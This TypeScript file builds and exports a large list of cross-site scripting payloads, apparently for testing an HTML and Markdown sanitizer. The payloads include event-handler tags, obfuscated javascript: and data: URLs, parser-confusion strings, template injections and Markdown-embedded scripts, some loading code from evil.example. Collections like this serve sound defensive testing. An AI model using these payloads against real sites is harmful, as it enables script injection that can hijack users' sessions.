/** What people write who want their text to run: as HTML, as Markdown, in code, half finished and badly spelt. */
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const tags = [
  ...[
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'audio src=x',
    'iframe',
    'a href=#',
  ],
  ...['marquee', 'object data=x', 'select autofocus', 'textarea autofocus', 'style', 'p style="animation-name:x"'],
]
const withHandlers = tags.flatMap((tag, at) => {
  const [handler, other] = [handlers[at % handlers.length], handlers[(at + 3) % handlers.length]]
  return [`<${tag} ${handler}=alert(1)>`, `<${tag}/${other}="alert\`1\`">text`]
})

const schemes = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
  ],
  ...[
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript:alert(1)',
    'javascript:%61lert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ],
  ...[
    'data:image/svg+xml,<svg onload=alert(1)>',
    'file:///etc/passwd',
    'blob:https://x/1',
    '//evil.example/x',
    '/\\evil.example',
  ],
  ...['jav&#x0A;ascript:alert(1)', 'javascript\\:alert(1)', 'ftp://evil.example'],
]
const asMarkdown = schemes.flatMap((scheme) => [
  `[text](<${scheme}>)`,
  `![text](<${scheme}>)`,
  `<a href="${scheme}">text</a>`,
])

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</p><script>alert(1)</script><p>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '</code></pre><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1)>',
  '<x contenteditable onblur=alert(1)>x',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '<%= alert(1) %>',
]

const inMarkdown = [
  '```html\n<script>alert(1)</script>\n```',
  '```js" onload="alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```language-x onclick=alert(1)\nx\n```',
  '    <script>alert(1)</script>',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|-|-|\n| <svg onload=alert(1)> | c |',
  '- <iframe src=javascript:alert(1)>\n- [x](javascript:alert(1))',
  '> <script>alert(1)</script>',
  '[x][a]\n\n[a]: javascript:alert(1)',
  '![x][a]\n\n[a]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
  '![a" onerror="alert(1)](/x.png)',
  '<javascript:alert(1)>',
  '<data:text/html,alert>',
  '[^x]\n\n[^x]: <script>alert(1)</script>',
  '[**<img src=x onerror=alert(1)>**](https://ok.example)',
  '~~<script>alert(1)</script>~~',
  '- [ ] <input type=text name=password>',
  'javascript:alert(1) www.javascript:alert(1)',
  '<a href="javascript:alert(1)"\n>two lines</a>',
]

export const xssPayloads: readonly string[] = [...withHandlers, ...asMarkdown, ...scripts, ...inMarkdown]
